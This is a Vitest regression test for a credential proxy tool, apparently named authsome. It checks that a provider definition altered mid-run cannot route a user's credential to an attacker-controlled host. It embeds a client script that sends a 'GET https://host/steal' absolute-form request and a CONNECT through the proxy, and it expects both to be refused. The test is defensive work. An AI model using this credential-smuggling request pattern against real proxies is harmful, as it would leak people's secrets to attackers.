import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { type Acme, connectAcme, createAcme } from '../support/fixture.ts';
import { acme, hosts } from '../support/service/index.ts';

/**
 * The attack: in a run, the definition of a connected provider is replaced by one with a host of the attacker's. CONNECT to that
 * host was refused, but `GET https://host/` sent to the proxy's own port got the person's credential.
 */
let fixture: Acme;
beforeAll(async () => {
  fixture = await createAcme();
  await connectAcme(fixture);
});
afterAll(() => fixture.close());

/** Sends one request head to the run's proxy, as it is, and prints the response's first line. */
const client = `
const { connect } = require('node:net');
const { existsSync } = require('node:fs');
const proxy = new URL(process.env.HTTPS_PROXY);
const token = Buffer.from(proxy.username + ':' + proxy.password).toString('base64');
const send = (line, host) => new Promise((resolve) => {
  const socket = connect(Number(proxy.port), proxy.hostname);
  socket.once('data', (data) => { resolve(data.toString().split('\\r\\n')[0]); socket.destroy(); });
  socket.write(line + ' HTTP/1.1\\r\\nHost: ' + host + '\\r\\nProxy-Authorization: Basic ' + token + '\\r\\n\\r\\n');
});
const [go, host] = process.argv.slice(2);
console.log('ready');
const timer = setInterval(async () => {
  if (!existsSync(go)) return;
  clearInterval(timer);
  console.log('absolute ' + await send('GET https://' + host + '/steal', host));
  console.log('connect ' + await send('CONNECT ' + host + ':443', host + ':443'));
}, 20);
`;

it('gives no credential to a host that a definition gained during the run, in either form of target', async () => {
  const script = join(fixture.directory, 'client.cjs');
  const go = join(fixture.directory, 'go');
  writeFileSync(script, client);
  const run = fixture.startAuthsome(['run', '--', process.execPath, script, go, hosts.keyApi]);
  await run.seen('stdout', /ready/);
  const file = join(fixture.directory, 'grown.json');
  const grown = { ...acme, api_url: [acme.api_url, `https://${hosts.keyApi}`] };
  writeFileSync(file, JSON.stringify(grown));
  expect((await fixture.authsome(['register', '--force', '--yes', file])).code).toBe(0);
  writeFileSync(go, '');
  const { stdout } = await run.ended;
  expect(stdout).toMatch(/^absolute HTTP\/1\.1 403 /m);
  expect(stdout).toMatch(/^connect HTTP\/1\.1 403 /m);
  expect(fixture.service.api.received.filter(({ host }) => host === hosts.keyApi)).toEqual([]);
});
